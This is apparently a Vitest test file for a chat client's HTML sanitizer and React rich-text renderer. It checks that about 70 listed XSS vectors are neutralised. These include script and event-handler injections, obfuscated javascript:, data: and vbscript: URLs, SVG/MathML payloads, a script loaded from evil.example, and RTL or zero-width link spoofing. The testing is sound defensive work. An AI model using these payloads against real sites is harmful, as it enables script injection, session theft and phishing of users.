// @vitest-environment jsdom
import { cleanup, render } from '@testing-library/react';
import { createElement } from 'react';
import { afterEach, describe, expect, it } from 'vitest';
import { RichText } from '../views/RichText.js';
import { describeLink } from './links.js';
import { LINK_PROTOCOLS, plainText } from './richNodes.js';
import { sanitizeHtml, sanitizeToFragment } from './sanitizeHtml.js';

afterEach(cleanup);

/** Attack vectors: OWASP's XSS filter evasion cheat sheet, DOMPurify's and html5sec.org's, and some of our own. */
const vectors: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">click</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">leading space</a>',
  '<a href="\tjavascript:alert(1)">leading tab</a>',
  '<a href="java\tscript:alert(1)">tab inside</a>',
  '<a href="java&#x09;script:alert(1)">encoded tab</a>',
  '<a href="java&#x0A;script:alert(1)">encoded newline</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal entities</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex entities</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">padded entities</a>',
  '<a href="jav&#x41;script:alert(1)">mixed</a>',
  '<a href="JAVASCRIPT:alert(1)">upper case</a>',
  '<a href="javascript&colon;alert(1)">named colon</a>',
  '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">percent-encoded scheme</a>',
  '<a href="\u0001javascript:alert(1)">control character</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data html</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data inline</a>',
  '<a href="DATA:image/svg+xml,<svg onload=alert(1)>">data svg</a>',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<a href="VBScript:msgbox(1)">vbscript mixed case</a>',
  '<a href="file:///etc/passwd">file</a>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<a href="/relative">relative</a>',
  '<a href="https://ok.example/" onclick="alert(1)" onmouseover="alert(1)" target="_blank">handlers</a>',
  '<a href="https://bank.example@evil.example/">credentials</a>',
  '<b onmouseover=alert(1)>bold</b>',
  '<p style="background:url(javascript:alert(1))">css url</p>',
  '<span style="expression(alert(1))">css expression</span>',
  '<div style="behavior: url(x.htc)">behaviour</div>',
  '<style>@import "https://evil.example/x.css"; body{background:red}</style>styled',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<table background="javascript:alert(1)"><tr><td>t</td></tr></table>',
  '<div id="x" data-bind="alert(1)" aria-label="x">attrs</div>',
  '<span data-irc-fg="javascript:alert(1)" data-mx-color="expression(alert(1))">bad colours</span>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<a href="https://ok.example/"><a href="javascript:alert(1)">nested</a></a>',
  '<mx-reply><a href="javascript:alert(1)">quoted</a></mx-reply>reply',
  '"><script>alert(1)</script>',
  '<a href="https://xn--pple-43d.example/\u202Egnp.exe">\u202Eexe.png</a>',
  '<a href="https://evil.example/">https://\u200Bbank.example</a>',
];

const dangerousElements = 'script, style, iframe, frame, object, embed, svg, math, form, input, button, img, image, video, audio, source, link, meta, base, template, noscript, details, body, table';

function assertSafe(root: ParentNode): void {
  expect(root.querySelector(dangerousElements)).toBeNull();
  for (const element of root.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      expect(name.startsWith('on'), `${element.localName}[${name}]`).toBe(false);
      expect(['style', 'src', 'srcdoc', 'action', 'formaction', 'background', 'xlink:href', 'target'].includes(name), `${element.localName}[${name}]`).toBe(false);
      if (name === 'href') {
        expect(element.localName).toBe('a');
        expect(LINK_PROTOCOLS.has(new URL(attribute.value).protocol), attribute.value).toBe(true);
      }
    }
  }
}

describe('sanitizeHtml', () => {
  it(`neutralises ${vectors.length} XSS vectors, in DOMPurify's output and in what React renders`, () => {
    expect(vectors.length).toBeGreaterThanOrEqual(50);
    for (const vector of vectors) {
      const fragment = sanitizeToFragment(vector);
      expect(fragment.querySelector('script, style, svg, math, iframe, object, embed, form, input')).toBeNull();
      for (const element of fragment.querySelectorAll('*')) {
        expect([...element.attributes].map((attribute) => attribute.name).filter((name) => !['href', 'data-irc-fg', 'data-irc-bg', 'data-mx-color', 'data-mx-bg-color'].includes(name)), vector).toEqual([]);
      }
      const { container, unmount } = render(createElement(RichText, { nodes: sanitizeHtml(vector), onOpenLink: () => undefined }));
      assertSafe(container);
      unmount();
    }
  });

  it('keeps the allowed formatting and turns colour attributes into classes', () => {
    const { container } = render(createElement(RichText, {
      nodes: sanitizeHtml('<p><b>bold</b> <em>em</em> <code>x()</code><br><span data-irc-fg="04" data-irc-bg="1">red on black</span> <span data-mx-color="#0000ff">blue</span></p><ul><li>one</li></ul><blockquote>q</blockquote><h1>Title</h1><sup>2</sup><del>old</del>'),
      onOpenLink: () => undefined,
    }));
    expect(container.innerHTML).toBe(
      '<p><b>bold</b> <em>em</em> <code>x()</code><br><span class="fg-4 bg-1">red on black</span> <span class="fg-12">blue</span></p>'
      + '<ul><li>one</li></ul><blockquote>q</blockquote><h1>Title</h1><sup>2</sup><del>old</del>',
    );
  });

  it('replaces images by "[image]" and loads nothing', () => {
    const nodes = sanitizeHtml('look: <img src="https://tracker.example/pixel.gif" alt="cat">!');
    expect(plainText(nodes)).toBe('look: [image]!');
  });

  it('renders safe links with rel="noopener noreferrer", no target, and a click that asks instead of navigating', () => {
    const opened: string[][] = [];
    const { container } = render(createElement(RichText, {
      nodes: sanitizeHtml('<a href="https://ok.example/path" target="_blank">ok</a> <a href="xmpp:room@conference.example?join">room</a> <a href="ircs://irc.libera.chat/#switchboard">irc</a> <a href="matrix:r/room:example.org">mx</a> <a href="mailto:bob@example.org">mail</a>'),
      onOpenLink: (href, text) => opened.push([href, text]),
    }));
    const links = [...container.querySelectorAll('a')];
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      'https://ok.example/path', 'xmpp:room@conference.example?join', 'ircs://irc.libera.chat/#switchboard', 'matrix:r/room:example.org', 'mailto:bob@example.org',
    ]);
    for (const link of links) {
      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
      expect(link.hasAttribute('target')).toBe(false);
    }
    const click = new MouseEvent('click', { bubbles: true, cancelable: true });
    links[0]?.dispatchEvent(click);
    expect(click.defaultPrevented).toBe(true);
    expect(opened).toEqual([['https://ok.example/path', 'ok']]);
  });

  it('links bare addresses in formatted text, but not inside a link', () => {
    const nodes = sanitizeHtml('<b>see https://example.org/x</b> <a href="https://a.example/">https://b.example/</a>');
    expect(nodes).toEqual([
      { type: 'element', tag: 'b', children: [{ type: 'text', text: 'see ' }, { type: 'link', href: 'https://example.org/x', children: [{ type: 'text', text: 'https://example.org/x' }] }] },
      { type: 'text', text: ' ' },
      { type: 'link', href: 'https://a.example/', children: [{ type: 'text', text: 'https://b.example/' }] },
    ]);
  });

  it('keeps the text of a link it refuses', () => {
    expect(plainText(sanitizeHtml('<a href="javascript:alert(1)">click me</a>'))).toBe('click me');
    expect(sanitizeHtml('<a href="javascript:alert(1)">click me</a>')).toEqual([{ type: 'text', text: 'click me' }]);
  });

  it('shows the real host of a link whose text is disguised with RTL overrides or zero-width characters', () => {
    const [rtl] = sanitizeHtml('<a href="https://xn--pple-43d.example/\u202Egnp.exe">\u202Eexe.png</a>');
    expect(rtl?.type).toBe('link');
    const rtlLink = rtl?.type === 'link' ? describeLink(rtl.href) : null;
    expect(rtlLink?.destination).toBe('xn--pple-43d.example');
    expect(rtlLink?.idn).toBe(true);
    expect(rtlLink?.display).not.toMatch(/\u202E/);
    const [zeroWidth] = sanitizeHtml('<a href="https://evil.example/">https://\u200Bbank.example</a>');
    expect(zeroWidth?.type === 'link' ? describeLink(zeroWidth.href)?.destination : null).toBe('evil.example');
  });

  it('flattens absurdly deep nesting instead of recursing without end', () => {
    const deep = `${'<b>'.repeat(1000)}deep${'</b>'.repeat(1000)}`;
    expect(plainText(sanitizeHtml(deep))).toBe('deep');
  });
});
